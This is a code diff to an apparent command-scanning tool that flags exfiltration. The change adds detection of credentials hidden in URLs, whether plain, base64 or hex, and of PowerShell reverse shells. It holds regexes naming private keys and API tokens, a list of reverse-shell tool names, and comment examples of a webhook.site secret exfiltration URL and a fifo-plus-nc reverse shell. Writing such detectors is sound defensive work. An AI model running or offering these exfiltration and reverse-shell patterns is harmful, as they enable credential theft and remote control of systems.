@@ -8,8 +8,11 @@ import type { RuleContext } from './context.js';
 import { credentialRisk, credentialRoot } from './credential-paths.js';
 import { copyOperands, credentialReadBy, dumpsEnvironment, EXEC_HOSTS, printedToken } from './credentials.js';
 import { secretStoreRead } from './secret-stores.js';
+import { inspectPublicStorageCommand } from './public-storage.js';
 import { severityRank } from '../findings.js';
 import { makefileRecipes } from '../shell/makefile.js';
+import { decodeBase64, decodeHex } from '../shell/static-text.js';
+import type { Finding } from '../findings.js';
 import { executesStdin, hasArgCI, hasLong, HTTPIE_CLIENTS, httpieHost, isIpHost, isLocalHost, optionValues, POWERSHELL, positionals, remoteSpecHost, SHELLS, upstream, urlHosts } from './facts.js';
 
 const CATEGORY = 'exfiltration';
@@ -118,6 +121,50 @@ const REMOTE_REPO = /^(?:--?[a-z-]+=)?(?:s3|gs|b2|azure|sftp|rest|rclone|swift|s
 const ENCODED_BLOB = /^[A-Za-z0-9+/_-]{20,}={0,2}$/;
 const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
 
+// What a credential looks like once decoded: a private key's armour, an AWS key pair, provider tokens.
+const DECODED_SECRET: readonly [RegExp, string][] = [
+  [/-----BEGIN [A-Z ]{0,20}PRIVATE KEY/, 'a private key'],
+  [/\b(?:AKIA|ASIA)[A-Z0-9]{16}\b|aws_secret_access_key/i, 'AWS credentials'],
+  [/\bgh[pousr]_[A-Za-z0-9]{30,}|\bgithub_pat_\w{30,}|\bglpat-[\w-]{20,}/, 'a code-hosting token'],
+  [/\bxox[abposer]-[\w-]{10,}|\bsk-(?:ant|proj|svcacct)-[\w-]{20,}|\bnpm_[A-Za-z0-9]{36}|_authToken\s{0,3}=|\bhv[sbr]\.[\w-]{24,}/, 'an API token'],
+];
+
+function decodedSecret(text: string): string | undefined {
+  for (const [re, label] of DECODED_SECRET) if (re.test(text)) return label;
+  return undefined;
+}
+
+/**
+ * The credential a URL carries to an outside host in its query or path, as written or base64- or
+ * hex-encoded (`webhook.site/x?d=LS0tLS1CRUdJTi…` is `-----BEGIN OPENSSH PRIVATE KEY-----`): a GET
+ * sends it as surely as a POST. Undefined for local hosts and for URLs that carry none.
+ */
+export function urlCarriedSecret(url: string): { label: string; host: string } | undefined {
+  if (url.length > 16_384) return undefined;
+  const host = urlHosts(url)[0];
+  if (!host || isLocalHost(host)) return undefined;
+  const authority = /^[a-z][a-z0-9+.-]*:\/\/[^/?#]*/i.exec(url);
+  if (!authority) return undefined;
+  for (const part of url.slice(authority[0].length).split(/[/?&#;]/)) {
+    if (part.length < 20) continue;
+    let v = part.slice(part.indexOf('=') + 1);
+    try {
+      v = decodeURIComponent(v);
+    } catch {
+      // kept as written
+    }
+    const label = decodedSecret(v) ?? (ENCODED_BLOB.test(v) ? decodedSecret((/^[0-9a-f]+$/i.test(v) ? decodeHex(v) : decodeBase64(v)) ?? '') : undefined);
+    if (label) return { label, host };
+  }
+  return undefined;
+}
+
+/** The finding for a URL that carries a credential out; `how` opens the reason ("The fetch"). */
+export function urlSecretFinding(url: string, how: string): Finding | undefined {
+  const hit = urlCarriedSecret(url);
+  return hit ? { patternName: `${CATEGORY}.secret_in_url`, severity: 'critical', category: CATEGORY, layer: 'builtin', reason: `${how} sends ${hit.label} to ${hit.host} inside the URL.`, hosts: [hit.host] } : undefined;
+}
+
 /**
  * The paste or request-catcher host a URL smuggles data to in its query (`webhook.site/x?d=<base64>`):
  * a GET carries it as well as a POST, and the catcher logs it for whoever owns the bin. Only
@@ -160,6 +207,10 @@ function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
   const method = (optionValues(args, ['-X', '--request', '--method'])[0] ?? '').toUpperCase();
   const sub = sensitiveSubstitution(cmd.argv);
   if (sub) return emit(ctx, sub.severity, 'secret_upload', `Sends ${sub.what} to ${label}.`, external);
+  for (const a of args) {
+    const carried = a.includes('://') ? urlSecretFinding(a, cmd.name) : undefined;
+    if (carried) return ctx.emit(carried);
+  }
   for (const p of payloads) {
     const file = p.startsWith('@') ? p.slice(1) : p.includes('=@') ? p.slice(p.indexOf('=@') + 2).split(';')[0] : cmd.name === 'wget' && !p.includes('=') ? p : undefined;
     const isUploadFile = cmd.name === 'curl' && (args.includes('-T') || hasLong(args, '--upload-file')) && !p.startsWith('@');
@@ -233,6 +284,18 @@ function runsInput(cmd: SimpleCommand): boolean {
   return (SHELLS.has(cmd.name) || POWERSHELL.has(cmd.name)) && (executesStdin(cmd) || cmd.args.includes('-i'));
 }
 
+// A .NET socket made in PowerShell: `New-Object Net.Sockets.TCPClient(h, p)`,
+// `[System.Net.Sockets.TcpClient]::new(h, p)`, `New-Object -TypeName System.Net.Sockets.Socket …`
+// (the parser lowercases the command word, which may carry an assignment: `$c=new-object`).
+const POWERSHELL_SOCKET_HINT = /new-object$|client\]::new|socket\]::new/;
+const DOTNET_SOCKET = /(?:^|[.[])(?:tcpclient|udpclient|sockets\.socket)\b/i;
+
+function powerShellSocket(c: SimpleCommand): boolean {
+  if (!c.name.endsWith('new-object')) return DOTNET_SOCKET.test(c.name);
+  const type = c.args.find((a) => !a.startsWith('-'));
+  return type !== undefined && DOTNET_SOCKET.test(type);
+}
+
 /**
  * A shell wired to the network outside one pipeline: through files both ends open (the fifo
  * pair of `mkfifo i o; sh -i < i > o & nc h 443 < o > i`), or through a descriptor that `exec`
@@ -244,7 +307,11 @@ export function inspectWiredShells(script: Script, ctx: RuleContext): void {
   let shellFd = false;
   let socketFd: string | undefined;
   const clientFiles: { name: string; files: string[] }[] = [];
+  let psSocket = false;
+  let psRunsText = false;
   for (const c of script.commands) {
+    if (POWERSHELL_SOCKET_HINT.test(c.name)) psSocket ||= powerShellSocket(c);
+    else if (c.name === 'iex' || c.name === 'invoke-expression' || c.name.endsWith('[scriptblock]::create') || ((c.name === 'invoke-command' || c.name === '&') && c.args.some((a) => /\[scriptblock\]::create/i.test(a)))) psRunsText = true;
     if (c.redirects.length === 0) continue;
     if (c.name === 'exec') {
       const tcp = c.redirects.find((r) => /^\/dev\/(?:tcp|udp)\/[^/]+\//.test(r.target.text));
@@ -260,6 +327,7 @@ export function inspectWiredShells(script: Script, ctx: RuleContext): void {
       clientFiles.push({ name: c.name === 'openssl' ? 'openssl s_client' : c.name, files: c.redirects.filter((r) => !r.op.includes('&')).map((r) => r.target.text) });
     }
   }
+  if (psSocket && psRunsText) return emit(ctx, 'critical', 'reverse_shell', 'PowerShell opens a network socket (a .NET TcpClient) and runs the text it reads as commands (a reverse shell).');
   if (socketFd && shellFd) return emit(ctx, 'critical', 'reverse_shell', `A shell reads and writes a descriptor opened on /dev/tcp to ${socketFd} (a reverse shell).`, [socketFd]);
   if (!shellFiles) return;
   for (const c of clientFiles) {
@@ -305,6 +373,11 @@ export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext)
     else if (external.length && (infile || hasArgCI(args, 'post', 'put')) && hasArgCI(args, '-body', '-infile', '-method')) emit(ctx, 'medium', 'http_upload', `Sends local data to ${label}.`, external);
     return;
   }
+  // PowerShell reverse-shell tools: powercat's `-e`/`-ep` serves a program over its connection;
+  // nishang's Invoke-PowerShellTcp and Invoke-ConPtyShell exist only to do so.
+  if ((name === 'powercat' && args.some((a) => /^-(?:e|ep)$/i.test(a))) || name === 'invoke-powershelltcp' || name === 'invoke-powershelltcponeline' || name === 'invoke-conptyshell') {
+    return emit(ctx, 'critical', 'reverse_shell', `${name} wires a shell to a network connection (a reverse or bind shell).`);
+  }
   if (NET_TOOLS.has(name)) {
     if (args.some((a) => /^-[a-z]*[ec]$/.test(a) || a === '--exec' || a === '--sh-exec' || /^(?:exec|system):/i.test(a))) {
       return emit(ctx, 'critical', 'reverse_shell', `${name} wires a shell to a network connection (a reverse or bind shell).`);
@@ -331,6 +404,7 @@ export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext)
     if (root) emit(ctx, 'high', 'secret_copy', `Copies ${root.label} to the remote host ${host}.`, [host], [root.path]);
     return;
   }
+  if (name === 'aws' || name === 'gsutil' || name === 'gcloud' || name === 'az') inspectPublicStorageCommand(cmd, ctx);
   if ((name === 'aws' && args[0] === 's3') || name === 'gsutil' || (name === 'gcloud' && args[0] === 'storage') || name === 'azcopy') {
     const pos = positionals(args);
     const bucket = pos.find((a) => /^(?:s3|gs|https):\/\//.test(a));
